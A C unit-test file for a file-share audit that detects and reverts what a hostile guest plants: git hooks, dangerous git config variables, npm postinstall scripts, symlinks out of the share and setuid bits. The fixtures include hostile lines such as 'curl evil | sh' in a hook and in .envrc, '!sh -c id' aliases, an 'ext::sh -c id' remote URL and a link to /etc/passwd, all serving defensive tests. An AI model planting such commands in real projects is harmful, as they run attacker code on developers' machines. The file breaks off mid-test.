/* Unit tests for the share audit: the git config parser against git's own
 * rules, the dangerous variables (includes too), npm's install scripts,
 * symlinks and includes leaving the share, which paths count; then real
 * trees in a temporary directory: snapshot, what a hostile guest leaves,
 * the report in warn mode and the tree after strict mode.  Unprivileged.
 * `test-audit bench DIR` times a snapshot and an audit of DIR (bench/audit.sh). */
#include "boot-test-util.h"

#include <ftw.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#include "audit.h"

/* ---- the git config parser --------------------------------------------- */

static int dump_var(void *arg, const struct mvm_gitconfig_var *v)
{
    buf_printf(arg, "%s|%s|%s|%s\n", v->section, v->subsection ? v->subsection : "-", v->key,
               v->value ? v->value : "(bare)");
    return 0;
}

static char *dump(const char *text, int *rc)
{
    struct buf b = {0};
    *rc = mvm_gitconfig_parse(text, strlen(text), dump_var, &b, NULL);
    buf_append(&b, "", 1);
    return b.data;
}

static void test_gitconfig_syntax(void **state)
{
    (void)state;
    static const char text[] = "\xef\xbb\xbf# comment\n"
                               "[core]\n"
                               "\trepositoryformatversion = 0\n"
                               "\tFileMode = true ; comment\n"
                               "[Core \"Sub\"] Key = \"quoted ; not # comment\" trailing  # c\n"
                               "[a.B.c]\n"
                               "bare\n"
                               "  [x]\n"
                               "v = one\\\n"
                               "two\n"
                               "w = tab\\there\\n\n"
                               "y = \"a  b\"  c  \n"
                               "z=\n"
                               "[s \"q\\\"uote\\\\d\"]\r\n"
                               "k = 1\r\n"
                               "[a.b \"c\"]last";
    int rc;
    cleanup_free char *out = dump(text, &rc);
    assert_int_equal(rc, 0);
    assert_string_equal(out, "core|-|repositoryformatversion|0\n"
                             "core|-|filemode|true\n"
                             "core|Sub|key|quoted ; not # comment trailing\n"
                             "a|b.c|bare|(bare)\n"
                             "x|-|v|onetwo\n"
                             "x|-|w|tab\there\n\n"
                             "x|-|y|a  b  c\n"
                             "x|-|z|\n"
                             "s|q\"uote\\d|k|1\n"
                             "a|b.c|last|(bare)\n");
}

static void test_gitconfig_errors(void **state)
{
    (void)state;
    /* Each of these makes git refuse the whole file. */
    static const char *const bad[] = {
        "[core",        "[core]\nk = \"open\n", "[core]\nk = a\\q\n", "[core]\n1key = x\n",
        "[s \"x\" ]\n", "[]\nk = v\n",          "[s \"x\n\"]\n",      "[core]\nk : v\n",
        "[co_re]\n",
    };
    for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
        int rc;
        cleanup_free char *out = dump(bad[i], &rc);
        if (rc != -1)
            fail_msg("accepted %s", bad[i]);
    }
    unsigned line = 0;
    struct buf b = {0};
    assert_int_equal(mvm_gitconfig_parse("[a]\nk=1\n[b\n", 11, dump_var, &b, &line), -1);
    assert_int_equal(line, 3);
    buf_free(&b);
}

/* ---- what counts --------------------------------------------------------- */

static char *joined(const struct mvm_audit_strs *s)
{
    struct buf b = {0};
    for (size_t i = 0; i < s->n; i++)
        buf_printf(&b, "%s\n", s->v[i]);
    buf_append(&b, "", 1);
    return b.data;
}

static void test_git_dangers(void **state)
{
    (void)state;
    static const char text[] = "[core]\n"
                               "\trepositoryformatversion = 0\n"
                               "\tfsmonitor = ./evil\n"
                               "\thooksPath = .githooks\n"
                               "[core \"x\"]\n"
                               "\tfsmonitor = not-core-fsmonitor\n"
                               "[alias]\n"
                               "\tst = status\n"
                               "\tx = !sh -c id\n"
                               "[filter \"lfs\"]\n"
                               "\tsmudge = git-lfs smudge %f\n"
                               "\trequired = true\n"
                               "[diff \"bin\"]\n\ttextconv = hexdump\n"
                               "[credential]\n\thelper = store\n"
                               "[credential \"https://example.com\"]\n\thelper = cache\n"
                               "[include]\n\tpath = ../shared.cfg\n"
                               "[includeIf \"gitdir:/x/\"]\n\tpath = other.cfg\n"
                               "[submodule \"a\"]\n\tupdate = checkout\n\tupdate = !make\n"
                               "\turl = https://example.com/a\n"
                               "[remote \"origin\"]\n\turl = ext::sh -c id\n"
                               "[pager]\n\tlog = less\n"
                               "[fsmonitor]\n";
    struct mvm_audit_strs d = {0}, inc = {0};
    assert_int_equal(mvm_audit_git_dangers(text, strlen(text), &d, &inc), 0);
    cleanup_free char *got = joined(&d);
    assert_string_equal(got, "core.fsmonitor = ./evil\n"
                             "core.hookspath = .githooks\n"
                             "alias.x = !sh -c id\n"
                             "filter.lfs.smudge = git-lfs smudge %f\n"
                             "diff.bin.textconv = hexdump\n"
                             "credential.helper = store\n"
                             "credential.https://example.com.helper = cache\n"
                             "include.path = ../shared.cfg\n"
                             "includeif.gitdir:/x/.path = other.cfg\n"
                             "submodule.a.update = !make\n"
                             "remote.origin.url = ext::sh -c id\n"
                             "pager.log = less\n");
    cleanup_free char *incs = joined(&inc);
    assert_string_equal(incs, "../shared.cfg\nother.cfg\n");
    mvm_audit_strs_clear(&d);
    mvm_audit_strs_clear(&inc);
    /* A file git refuses adds nothing. */
    assert_int_equal(mvm_audit_git_dangers("[core]\nfsmonitor = \"x\n", 22, &d, NULL), -1);
    assert_int_equal(d.n, 0);
    cleanup_free char *hp = mvm_audit_git_hooks_path(text, strlen(text));
    assert_string_equal(hp, ".githooks");
    assert_null(mvm_audit_git_hooks_path("[core]\nbare = false\n", 20));
}

static void test_npm_scripts(void **state)
{
    (void)state;
    struct mvm_audit_strs s = {0};
    static const char pkg[] = "\xef\xbb\xbf{\"name\": \"x\", \"scripts\": {\"test\": \"jest\", "
                              "\"postinstall\": \"a\", \"postinstall\": \"curl x | sh\", "
                              "\"prepare\": [1], \"install\": \"node-gyp rebuild\"}}";
    assert_int_equal(mvm_audit_npm_scripts(pkg, strlen(pkg), &s), 0);
    cleanup_free char *got = joined(&s);
    assert_string_equal(got, "scripts.install = node-gyp rebuild\n"
                             "scripts.postinstall = curl x | sh\n"
                             "scripts.prepare = [1]\n");
    mvm_audit_strs_clear(&s);
    assert_int_equal(mvm_audit_npm_scripts("{\"scripts\": \"x\"}", 16, &s), 0);
    assert_int_equal(s.n, 0);
    assert_int_equal(mvm_audit_npm_scripts("[1]", 3, &s), -1);
    assert_int_equal(mvm_audit_npm_scripts("{\"a\":", 5, &s), -1);
    assert_int_equal(s.n, 0);
}

static void test_paths(void **state)
{
    (void)state;
    assert_true(mvm_audit_link_leaves("a", "/etc/passwd"));
    assert_true(mvm_audit_link_leaves("a", ".."));
    assert_true(mvm_audit_link_leaves("d/a", "../../x"));
    assert_true(mvm_audit_link_leaves("d/a", "x/../../../y"));
    assert_false(mvm_audit_link_leaves("d/a", "../x"));
    assert_false(mvm_audit_link_leaves("d/e/a", "./.././../x/./y"));
    assert_false(mvm_audit_link_leaves("a", "b//c/"));
    assert_false(mvm_audit_link_leaves("a", ""));

    struct {
        const char *config, *inc, *want;
    } inc[] = {
        {".git/config", "../shared.cfg", "shared.cfg"},
        {".git/config", "x/./y/../z", ".git/x/z"},
        {".git/config", "../../out", NULL},
        {".git/config", "~/.gitconfig", NULL},
        {".git/config", "%(prefix)/etc/x", NULL},
        {".git/config", "/proj/in/x", "in/x"},
        {".git/config", "/projx/in", NULL},
        {".git/config", "/etc/gitconfig", NULL},
        {".git/config", "", NULL},
        {".git/config", "..", NULL},
        {"a/b.cfg", "c", "a/c"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(inc); i++) {
        cleanup_free char *got = mvm_audit_include_path("/proj", inc[i].config, inc[i].inc);
        if (inc[i].want == NULL && got != NULL)
            fail_msg("%s from %s: got %s, want none", inc[i].inc, inc[i].config, got);
        if (inc[i].want && (got == NULL || strcmp(got, inc[i].want) != 0))
            fail_msg("%s from %s: got %s, want %s", inc[i].inc, inc[i].config, got ? got : "none",
                     inc[i].want);
    }
    assert_true(mvm_audit_under("a/b", "a"));
    assert_true(mvm_audit_under("a", "a"));
    assert_false(mvm_audit_under("ab", "a"));
}

static void test_classify(void **state)
{
    (void)state;
    struct {
        const char *path;
        bool dir;
        enum mvm_audit_class want;
    } t[] = {
        {".git/hooks/pre-commit", false, MVM_AUDIT_CLASS_HOOK},
        {".git/hooks/pre-commit.sample", false, MVM_AUDIT_CLASS_NONE},
        {".git/hooks", false, MVM_AUDIT_CLASS_HOOK}, /* a link or file instead of the dir */
        {".git/hooks", true, MVM_AUDIT_CLASS_NONE},
        {".git/hooks/sub.d/x", false, MVM_AUDIT_CLASS_HOOK},
        {"sub/.git/hooks/post-checkout", false, MVM_AUDIT_CLASS_HOOK},
        {".git/modules/lib/hooks/pre-push", false, MVM_AUDIT_CLASS_HOOK},
        {".git/modules/hooks/config", false, MVM_AUDIT_CLASS_GIT_CONFIG},
        {".git/objects/hooks/x", false, MVM_AUDIT_CLASS_NONE},
        {"src/hooks/x", false, MVM_AUDIT_CLASS_NONE},
        {".git/config", false, MVM_AUDIT_CLASS_GIT_CONFIG},
        {".git/config.worktree", false, MVM_AUDIT_CLASS_GIT_CONFIG},
        {".git/modules/a/b/config", false, MVM_AUDIT_CLASS_GIT_CONFIG},
        {".git/refs/config", false, MVM_AUDIT_CLASS_NONE},
        {"config", false, MVM_AUDIT_CLASS_NONE},
        {"lib/.gitmodules", false, MVM_AUDIT_CLASS_GIT_CONFIG},
        {".git", false, MVM_AUDIT_CLASS_GIT_LINK},
        {"sub/.git", false, MVM_AUDIT_CLASS_GIT_LINK},
        {".git", true, MVM_AUDIT_CLASS_NONE},
        {".envrc", false, MVM_AUDIT_CLASS_TOOL},
        {"sub/.envrc", false, MVM_AUDIT_CLASS_TOOL},
        {".vscode/tasks.json", false, MVM_AUDIT_CLASS_TOOL},
        {".vscode/settings.json", false, MVM_AUDIT_CLASS_TOOL},
        {".vscode/notes.txt", false, MVM_AUDIT_CLASS_NONE},
        {"x.code-workspace", false, MVM_AUDIT_CLASS_TOOL},
        {".idea/runConfigurations/App.xml", false, MVM_AUDIT_CLASS_TOOL},
        {".idea/workspace.xml", false, MVM_AUDIT_CLASS_TOOL},
        {".run/App.run.xml", false, MVM_AUDIT_CLASS_TOOL},
        {".claude/settings.json", false, MVM_AUDIT_CLASS_TOOL},
        {".claude/settings.local.json", false, MVM_AUDIT_CLASS_TOOL},
        {".claude/notes.md", false, MVM_AUDIT_CLASS_NONE},
        {".mcp.json", false, MVM_AUDIT_CLASS_TOOL},
        {".devcontainer", true, MVM_AUDIT_CLASS_TOOL},
        {".devcontainer/devcontainer.json", false, MVM_AUDIT_CLASS_TOOL},
        {".devcontainer.json", false, MVM_AUDIT_CLASS_TOOL},
        {"package.json", false, MVM_AUDIT_CLASS_NPM},
        {"packages/a/package.json", false, MVM_AUDIT_CLASS_NPM},
        {"node_modules/x/package.json", false, MVM_AUDIT_CLASS_NONE},
        {"README.md", false, MVM_AUDIT_CLASS_NONE},
    };
    for (size_t i = 0; i < ARRAY_SIZE(t); i++) {
        enum mvm_audit_class got = mvm_audit_classify(t[i].path, t[i].dir);
        if (got != t[i].want)
            fail_msg("%s%s: class %d, want %d", t[i].path, t[i].dir ? "/" : "", got, t[i].want);
    }
}

/* ---- real trees ------------------------------------------------------------ */

struct tree {
    char *dir, *outside;
};

static void put(const struct tree *t, const char *rel, const char *text, mode_t mode)
{
    cleanup_free char *path = xasprintf("%s/%s", t->dir, rel);
    cleanup_free char *parent = xstrdup(path);
    *strrchr(parent, '/') = '\0';
    mkdir_fixture(parent);
    write_fixture(path, text, strlen(text), mode);
}

static void link_to(const struct tree *t, const char *rel, const char *target)
{
    cleanup_free char *path = xasprintf("%s/%s", t->dir, rel);
    if (symlink(target, path) < 0)
        fail_msg("symlink %s: %s", path, strerror(errno));
}

static char *slurp(const struct tree *t, const char *rel)
{
    cleanup_free char *path = xasprintf("%s/%s", t->dir, rel);
    return read_file(path, 1 << 20, NULL);
}

static bool exists(const struct tree *t, const char *rel)
{
    cleanup_free char *path = xasprintf("%s/%s", t->dir, rel);
    struct stat st;
    return lstat(path, &st) == 0;
}

static mode_t mode_of(const struct tree *t, const char *rel)
{
    cleanup_free char *path = xasprintf("%s/%s", t->dir, rel);
    struct stat st;
    assert_int_equal(lstat(path, &st), 0);
    return st.st_mode & 07777;
}

/* A repository as `git init` leaves it, a project file, a package.json. */
static int tree_setup(void **state)
{
    struct tree *t = xcalloc(1, sizeof *t);
    t->dir = test_tmpdir();
    t->outside = test_tmpdir();
    put(t, ".git/config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n", 0644);
    put(t, ".git/hooks/pre-commit.sample", "#!/bin/sh\n", 0755);
    put(t, ".git/HEAD", "ref: refs/heads/main\n", 0644);
    put(t, "README.md", "hello\n", 0644);
    put(t, "package.json", "{\"name\": \"p\", \"scripts\": {\"test\": \"jest\"}}\n", 0644);
    put(t, ".envrc", "export A=1\n", 0644);
    put(t, "src/main.c", "int main(void) { return 0; }\n", 0644);
    put(t, "tools/run.sh", "#!/bin/sh\n", 0755);
    link_to(t, "src/link", "main.c");
    *state = t;
    return 0;
}

static int tree_teardown(void **state)
{
    struct tree *t = *state;
    remove_tree(t->dir);
    remove_tree(t->outside);
    free(t->dir);
    free(t->outside);
    free(t);
    return 0;
}

static struct mvm_audit_snap *snapshot(const struct tree *t)
{
    struct mvm_audit_snap *snap = NULL;
    cleanup_error struct mvm_error *err = NULL;
    int rc = mvm_audit_snapshot(t->dir, getuid(), getgid(), &snap, &err);
    assert_no_error(rc, err);
    return snap;
}

static void audit(struct mvm_audit_snap *snap, bool strict, struct mvm_audit_report *r)
{
    cleanup_error struct mvm_error *err = NULL;
    int rc = mvm_audit_run(snap, strict, r, &err);
    assert_no_error(rc, err);
}

/* The report as "path kind action[ detail]" lines, sorted. */
static char *lines_of(const struct mvm_audit_report *r)
{
    char **v = xcalloc(r->n + 1, sizeof *v);
    for (size_t i = 0; i < r->n; i++) {
        const struct mvm_audit_finding *f = &r->findings[i];
        v[i] = xasprintf("%s %d %d%s%s", f->path, f->kind, f->action, f->detail ? " " : "",
                         f->detail ? f->detail : "");
    }
    for (size_t i = 1; i < r->n; i++)
        for (size_t j = i; j > 0 && strcmp(v[j - 1], v[j]) > 0; j--) {
            char *x = v[j];
            v[j] = v[j - 1];
            v[j - 1] = x;
        }
    struct buf b = {0};
    for (size_t i = 0; i < r->n; i++)
        buf_printf(&b, "%s\n", v[i]);
    buf_append(&b, "", 1);
    mvm_strv_free(v);
    return b.data;
}

static void assert_finding(const char *lines, const char *path, enum mvm_audit_kind kind,
                           enum mvm_audit_action action, const char *detail)
{
    cleanup_free char *want =
        xasprintf("%s %d %d%s%s", path, kind, action, detail ? " " : "", detail ? detail : "");
    if (!has_line(lines, want))
        fail_msg("no finding [%s] in:\n%s", want, lines);
}

static void test_clean_run(void **state)
{
    struct tree *t = *state;
    struct mvm_audit_snap *snap = snapshot(t);
    bool incomplete = true;
    assert_int_equal(mvm_audit_snap_entries(snap, &incomplete), 13);
    assert_false(incomplete);
    /* Ordinary work: edits, new files, a new directory, git's own churn. */
    put(t, "README.md", "hello, edited\n", 0644);
    put(t, "src/new.c", "int x;\n", 0644);
    put(t, ".git/HEAD", "ref: refs/heads/other\n", 0644);
    put(t, ".git/config",
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
        "[branch \"main\"]\n\tremote = origin\n",
        0644);
    put(t, "package.json", "{\"name\": \"p\", \"scripts\": {\"test\": \"vitest\"}}\n", 0644);
    put(t, "sub/.git/hooks/update.sample", "#!/bin/sh\n", 0755); /* a clone's samples */
    link_to(t, "src/inside", "../README.md");
    struct mvm_audit_report r;
    audit(snap, false, &r);
    cleanup_free char *lines = lines_of(&r);
    assert_string_equal(lines, "");
    assert_false(r.incomplete);
    mvm_audit_report_clear(&r);
    mvm_audit_snap_free(snap);
}

/* What a hostile guest plants (warn and strict share it). */
static void plant(struct tree *t)
{
    link_to(t, "passwd", "/etc/passwd");
    link_to(t, "src/up", "../../x");
    put(t, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0755);
    put(t, ".git/config",
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = ./.x\n"
        "[include]\n\tpath = ../docs/notes.txt\n",
        0644);
    put(t, "docs/notes.txt", "[alias]\n\tco = !sh -c id\n", 0644);
    put(t, ".claude/settings.json", "{\"hooks\": {\"Stop\": [{\"command\": \"sh x\"}]}}\n", 0644);
    put(t, "package.json",
        "{\"name\": \"p\", \"scripts\": {\"test\": \"jest\", \"postinstall\": \"sh x\"}}\n", 0644);
    put(t, ".envrc", "export A=1\ncurl evil | sh\n", 0644);
    put(t, ".devcontainer/devcontainer.json", "{}\n", 0644);
    put(t, "build.sh", "#!/bin/sh\n", 0755);
    put(t, "suid", "x", 0644);
    cleanup_free char *suid = xasprintf("%s/suid", t->dir);
    assert_int_equal(chmod(suid, 04755), 0);
    put(t, "lib/.git", "gitdir: /home/other/.git\n", 0644);
    put(t, "src/main.c", "int main(void) { return 1; }\n", 0644); /* ordinary */
}

/* What the audit says of each planted thing, and does to it in warn and
 * in strict mode. */
static const struct {
    const char *path;
    enum mvm_audit_kind kind;
    enum mvm_audit_action warn, strict;
    const char *detail;
} planted[] = {
    {"passwd", MVM_AUDIT_LINK_OUT, MVM_AUDIT_REPORTED, MVM_AUDIT_REMOVED, "/etc/passwd"},
    {"src/up", MVM_AUDIT_LINK_OUT, MVM_AUDIT_REPORTED, MVM_AUDIT_REMOVED, "../../x"},
    {".git/hooks/pre-commit", MVM_AUDIT_HOOK, MVM_AUDIT_REPORTED, MVM_AUDIT_REMOVED, NULL},
    {".git/config", MVM_AUDIT_GIT_CONFIG, MVM_AUDIT_REPORTED, MVM_AUDIT_RESTORED,
     "core.fsmonitor = ./.x"},
    {".git/config", MVM_AUDIT_GIT_CONFIG, MVM_AUDIT_REPORTED, MVM_AUDIT_RESTORED,
     "include.path = ../docs/notes.txt"},
    {"docs/notes.txt", MVM_AUDIT_GIT_CONFIG, MVM_AUDIT_REPORTED, MVM_AUDIT_REMOVED,
     "alias.co = !sh -c id (included from .git/config)"},
    {".claude/settings.json", MVM_AUDIT_TOOL, MVM_AUDIT_REPORTED, MVM_AUDIT_REMOVED, NULL},
    {"package.json", MVM_AUDIT_NPM_SCRIPT, MVM_AUDIT_REPORTED, MVM_AUDIT_RESTORED,
     "scripts.postinstall = sh x"},
    {".envrc", MVM_AUDIT_TOOL, MVM_AUDIT_REPORTED, MVM_AUDIT_RESTORED, NULL},
    {".devcontainer", MVM_AUDIT_TOOL, MVM_AUDIT_REPORTED, MVM_AUDIT_REMOVED, NULL},
    {".devcontainer/devcontainer.json", MVM_AUDIT_TOOL, MVM_AUDIT_REPORTED, MVM_AUDIT_REMOVED,
     NULL},
    {"build.sh", MVM_AUDIT_EXEC, MVM_AUDIT_REPORTED, MVM_AUDIT_CLEARED, NULL},
    {"suid", MVM_AUDIT_SETUID, MVM_AUDIT_CLEARED, MVM_AUDIT_CLEARED, NULL},
    {"suid", MVM_AUDIT_EXEC, MVM_AUDIT_REPORTED, MVM_AUDIT_CLEARED, NULL},
    {"lib/.git", MVM_AUDIT_GIT_LINK, MVM_AUDIT_REPORTED, MVM_AUDIT_REMOVED,
     "gitdir: /home/other/.git"},
};

static void assert_planted(const char *lines, bool strict)
{
    for (size_t i = 0; i < ARRAY_SIZE(planted); i++)
        assert_finding(lines, planted[i].path, planted[i].kind,
                       strict ? planted[i].strict : planted[i].warn, planted[i].detail);
    assert_int_equal(count_lines(lines), ARRAY_SIZE(planted));
}

static void test_warn(void **state)
{
    struct tree *t = *state;
    struct mvm_audit_snap *snap = snapshot(t);
    plant(t);
    struct mvm_audit_report r;
    audit(snap, false, &r);
    cleanup_free char *lines = lines_of(&r);
    assert_planted(lines, false);
    /* Warn mode touches nothing but the setuid bit. */
    assert_int_equal(mode_of(t, "suid"), 0755);
    assert_true(exists(t, ".git/hooks/pre-commit"));
    cleanup_free char *cfg = slurp(t, ".git/config");
    assert_non_null(strstr(cfg, "fsmonitor"));
    for (size_t i = 0; i < r.n; i++) {
        cleanup_free char *line = mvm_audit_describe(&r.findings[i]);
        assert_non_null(strstr(line, r.findings[i].path));
    }
    mvm_audit_report_clear(&r);
    mvm_audit_snap_free(snap);
}

static int add_line(const char *path, const struct stat *st, int flag, struct FTW *ftw);
static struct buf *manifest_out;
static const char *manifest_top;

/* Every entry but README.md's content: type, mode, size, content, target. */
static int add_line(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
    (void)flag;
    (void)ftw;
    const char *rel = path + strlen(manifest_top);
    if (S_ISDIR(st->st_mode)) {
        buf_printf(manifest_out, "%s d %o\n", rel, st->st_mode & 07777);
    } else if (S_ISLNK(st->st_mode)) {
        char target[4096];
        ssize_t n = readlink(path, target, sizeof target - 1);
        target[n < 0 ? 0 : n] = '\0';
        buf_printf(manifest_out, "%s l %s\n", rel, target);
    } else {
        size_t len = 0;
        cleanup_free char *data = read_file(path, 1 << 20, &len);
        uint64_t h = strstr(rel, "README.md") ? 0 : fnv1a64(FNV1A64_INIT, data, len);
        buf_printf(manifest_out, "%s f %o %016llx\n", rel, st->st_mode & 07777,
                   (unsigned long long)h);
    }
    return 0;
}

static char *manifest(const struct tree *t)
{
    struct buf b = {0};
    manifest_out = &b;
    manifest_top = t->dir;
    assert_int_equal(nftw(t->dir, add_line, 16, FTW_PHYS), 0);
    buf_append(&b, "", 1);
    /* Sorted, so that readdir's order does not matter. */
    cleanup_free char *sorted = NULL;
    cleanup_free char *tmp = xasprintf("%s.manifest", t->outside);
    write_fixture(tmp, b.data, strlen(b.data), 0644);
    sorted = run_capture("sort '%s'", tmp);
    unlink(tmp);
    buf_free(&b);
    return steal_pointer(&sorted);
}

static void test_strict(void **state)
{
    struct tree *t = *state;
    cleanup_free char *before = manifest(t);
    struct mvm_audit_snap *snap = snapshot(t);
    plant(t);
    put(t, "README.md", "hello, edited by the guest\n", 0644);
    struct mvm_audit_report r;
    audit(snap, true, &r);
    cleanup_free char *lines = lines_of(&r);
    assert_planted(lines, true);
    mvm_audit_report_clear(&r);
    /* What is left: the tree as it was, but for ordinary edits -- the
     * new README.md text, src/main.c, and the new plain files. */
    cleanup_free char *readme = slurp(t, "README.md");
    assert_string_equal(readme, "hello, edited by the guest\n");
    assert_int_equal(mode_of(t, "build.sh"), 0644);
    assert_int_equal(mode_of(t, "suid"), 0644);
    cleanup_free char *path = xasprintf("%s/build.sh", t->dir);
    unlink(path);
    free(path);
    path = xasprintf("%s/suid", t->dir);
    unlink(path);
    put(t, "src/main.c", "int main(void) { return 0; }\n", 0644);
    cleanup_free char *after = manifest(t);
    assert_string_equal(after, before);
    /* And a second audit finds nothing left to say. */
    audit(snap, true, &r);
    cleanup_free char *again = lines_of(&r);
    assert_string_equal(again, "");
    mvm_audit_report_clear(&r);
    mvm_audit_snap_free(snap);
}

/* Nothing outside the share is followed, read or changed. */
static void test_no_follow(void **state)
{
    struct tree *t = *state;
    cleanup_free char *victim = xasprintf("%s/victim", t->outside);
    write_text(victim, "[core]\n\tfsmonitor = outside\n");
    assert_int_equal(chmod(victim, 04755), 0);
    cleanup_free char *outside_hooks = xasprintf("%s/hooks", t->outside);
    mkdir_fixture(outside_hooks);
    cleanup_free char *outside_hook = xasprintf("%s/hooks/pre-commit", t->outside);
    write_text(outside_hook, "#!/bin/sh\n");
    struct mvm_audit_snap *snap = snapshot(t);
    /* The hooks directory swapped for a link out, .envrc and a config
     * include pointing at the victim. */
    cleanup_free char *hooks = xasprintf("%s/.git/hooks", t->dir);
    assert_int_equal(remove_tree(hooks), 0);
    link_to(t, ".git/hooks", outside_hooks);
    cleanup_free char *envrc = xasprintf("%s/.envrc", t->dir);
    unlink(envrc);
    link_to(t, ".envrc", victim);
    put(t, ".git/config", "[include]\n\tpath = ../lnk\n", 0644);
    link_to(t, "lnk", victim);
    struct mvm_audit_report r;
    audit(snap, true, &r);
    cleanup_free char *lines = lines_of(&r);
    assert_finding(lines, ".git/hooks", MVM_AUDIT_HOOK, MVM_AUDIT_REMOVED, outside_hooks);
    assert_finding(lines, ".envrc", MVM_AUDIT_TOOL, MVM_AUDIT_RESTORED, victim);
    assert_finding(lines, "lnk", MVM_AUDIT_LINK_OUT, MVM_AUDIT_REMOVED, victim);
    assert_finding(lines, ".git/config", MVM_AUDIT_GIT_CONFIG, MVM_AUDIT_RESTORED,
                   "include.path = ../lnk");
    mvm_audit_report_clear(&r);
    mvm_audit_snap_free(snap);
    /* The victim is as it was: content, setuid bit, the outside hook. */
    size_t len;
    cleanup_free char *v = read_file(victim, 4096, &len);
    assert_string_equal(v, "[core]\n\tfsmonitor = outside\n");
    struct stat st;
    assert_int_equal(stat(victim, &st), 0);
    assert_int_equal(st.st_mode & 07777, 04755);
    assert_int_equal(access(outside_hook, F_OK), 0);
    cleanup_free char *envrc_now = slurp(t, ".envrc");
    assert_string_equal(envrc_now, "export A=1\n");
}

/* A hooks directory named by core.hooksPath, and a file the config
 * already included, changed in place. */
static void test_hooks_path_and_include(void **state)
{
    struct tree *t = *state;
    put(t, ".git/config", "[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../shared.cfg\n",
        0644);
    put(t, ".githooks/pre-commit", "#!/bin/sh\nmake lint\n", 0755);
    put(t, "shared.cfg", "[user]\n\tname = me\n", 0644);
    struct mvm_audit_snap *snap = snapshot(t);
    /* The hook rewritten in place with its size and mtime kept: only its
     * ctime tells. */
    cleanup_free char *hook_path = xasprintf("%s/.githooks/pre-commit", t->dir);
    struct stat st;
    assert_int_equal(stat(hook_path, &st), 0);
    put(t, ".githooks/pre-commit", "#!/bin/sh\ncurl x|sh\n", 0755);
    struct timespec times[2] = {st.st_atim, st.st_mtim};
    assert_int_equal(utimensat(AT_FDCWD, hook_path, times, 0), 0);
    put(t, "shared.cfg", "[user]\n\tname = me\n[core]\n\tpager = sh -c id\n", 0644);
    struct mvm_audit_report r;
    audit(snap, true, &r);
    cleanup_free char *lines = lines_of(&r);
    assert_finding(lines, ".githooks/pre-commit", MVM_AUDIT_HOOK, MVM_AUDIT_RESTORED, NULL);
    assert_finding(lines, "shared.cfg", MVM_AUDIT_GIT_CONFIG, MVM_AUDIT_RESTORED,
                   "core.pager = sh -c id (included from .git/config)");
    assert_int_equal(count_lines(lines), 2);
    mvm_audit_report_clear(&r);
    mvm_audit_snap_free(snap);
    cleanup_free char *hook = slurp(t, ".githooks/pre-commit");
    assert_string_equal(hook, "#!/bin/sh\nmake lint\n");
    assert_int_equal(mode_of(t, ".githooks/pre-commit"), 0755);
    cleanup_free char *shared = slurp(t, "shared.cfg");
    assert_string_equal(shared, "[user]\n\tname = me\n");
}

/* --audit off: no snapshot, but what the guest made setuid since the
 * start loses the bit; what was setuid before keeps it. */
static void test_sweep(void **state)
{
    struct tree *t = *state;
    put(t, "old-suid", "x", 04755);
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    int64_t since = (int64_t)now.tv_sec * 1000000000LL + now.tv_nsec;
    usleep(30 * 1000); /* past the file system's coarse clock */
    put(t, "sub/new-suid", "x", 02755);
    put(t, ".git/hooks/pre-commit", "#!/bin/sh\n", 0755);
    struct mvm_audit_report r;
    cleanup_error struct mvm_error *err = NULL;
    int rc = mvm_audit_sweep(t->dir, getuid(), getgid(), since, &r, &err);
    assert_no_error(rc, err);
    cleanup_free char *lines = lines_of(&r);
    assert_string_equal(lines, "sub/new-suid 7 3\n");
    mvm_audit_report_clear(&r);
    assert_int_equal(mode_of(t, "sub/new-suid"), 0755);
    assert_int_equal(mode_of(t, "old-suid"), 04755);
}

/* Root only: a device node goes in every mode; a file of another user's
 * is reported, and removed in strict mode. */
static void test_device_and_owner(void **state)
{
    struct tree *t = *state;
    if (geteuid() != 0)
        skip();
    struct mvm_audit_snap *snap = snapshot(t);
    cleanup_free char *dev = xasprintf("%s/src/null", t->dir);
    assert_int_equal(mknod(dev, S_IFCHR | 0666, makedev(1, 3)), 0);
    put(t, "theirs.txt", "x", 0644);
    cleanup_free char *theirs = xasprintf("%s/theirs.txt", t->dir);
    assert_int_equal(lchown(theirs, 4242, 4242), 0);
    struct mvm_audit_report r;
    audit(snap, false, &r);
    cleanup_free char *lines = lines_of(&r);
    assert_finding(lines, "src/null", MVM_AUDIT_DEVICE, MVM_AUDIT_REMOVED, NULL);
    assert_finding(lines, "theirs.txt", MVM_AUDIT_NOT_OWNED, MVM_AUDIT_REPORTED, "uid 4242");
    mvm_audit_report_clear(&r);
    assert_false(exists(t, "src/null"));
    assert_true(exists(t, "theirs.txt"));
    audit(snap, true, &r);
    cleanup_free char *strict = lines_of(&r);
    assert_string_equal(strict, "theirs.txt 9 2 uid 4242\n");
    mvm_audit_report_clear(&r);
    assert_false(exists(t, "theirs.txt"));
    mvm_audit_snap_free(snap);
}

/* Not root (root reads anything): a directory the guest made unreadable
 * hides what is in it, and says so. */
static void test_unreadable(void **state)
{
    struct tree *t = *state;
    if (geteuid() == 0)
        skip();
    struct mvm_audit_snap *snap = snapshot(t);
    put(t, ".claude/settings.json", "{}", 0644);
    cleanup_free char *dir = xasprintf("%s/.claude", t->dir);
    assert_int_equal(chmod(dir, 0), 0);
    struct mvm_audit_report r;
    audit(snap, false, &r);
    assert_int_equal(chmod(dir, 0755), 0);
    cleanup_free char *lines = lines_of(&r);
    assert_string_equal(lines, ".claude 10 0\n");
    assert_true(r.incomplete);
    mvm_audit_report_clear(&r);
    mvm_audit_snap_free(snap);
}

static void test_describe(void **state)
{
    (void)state;
    struct mvm_audit_finding f = {MVM_AUDIT_LINK_OUT,          MVM_AUDIT_REMOVED, true, 0,
                                  "bad\x1b]52;c;eA==\x07name", "/etc/passwd"};
    cleanup_free char *line = mvm_audit_describe(&f);
    assert_string_equal(line, "bad?]52;c;eA==?name: new symlink leading out of the share: "
                              "/etc/passwd (removed)");
    struct mvm_audit_finding g = {
        MVM_AUDIT_GIT_CONFIG, MVM_AUDIT_FAILED, false, 0, ".git/config", NULL};
